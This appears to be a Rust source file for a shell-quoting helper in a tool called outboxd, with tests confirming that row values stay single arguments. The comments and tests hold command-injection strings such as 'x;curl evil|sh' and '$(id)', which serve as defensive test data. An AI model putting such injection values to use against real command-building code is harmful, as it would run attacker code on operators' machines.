//! Shell quoting for the commands outboxd prints for an operator to copy (issue 53): a value
//! that comes from a row (an `event_id` anyone who can write the outbox chose) must stay one
//! argument, never become shell syntax (`x;curl evil|sh`).

/// `s` as one POSIX shell word: unchanged when it holds only characters no shell treats
/// specially (a UUID stays readable), else single-quoted with each `'` written as `'\''`.
pub fn quote(s: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.:/=@+,%".contains(c);
    if !s.is_empty() && s.chars().all(plain) {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::quote;

    #[test]
    fn row_values_stay_one_argument() {
        assert_eq!(
            quote("0193a5e2-7c1d-7000-8000-000000000001"),
            "0193a5e2-7c1d-7000-8000-000000000001"
        );
        assert_eq!(quote("x;curl evil|sh"), "'x;curl evil|sh'");
        assert_eq!(quote("a'b"), r"'a'\''b'");
        assert_eq!(quote(""), "''");
        assert_eq!(quote("$(id)`id`\n"), "'$(id)`id`\n'");
        // What sh makes of it: the same single argument back.
        for v in ["x;curl evil|sh", "a'b", "$(id) `id` \"q\"", "é ü"] {
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf %s {}", quote(v)))
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(out.stdout).unwrap(), v);
        }
    }
}
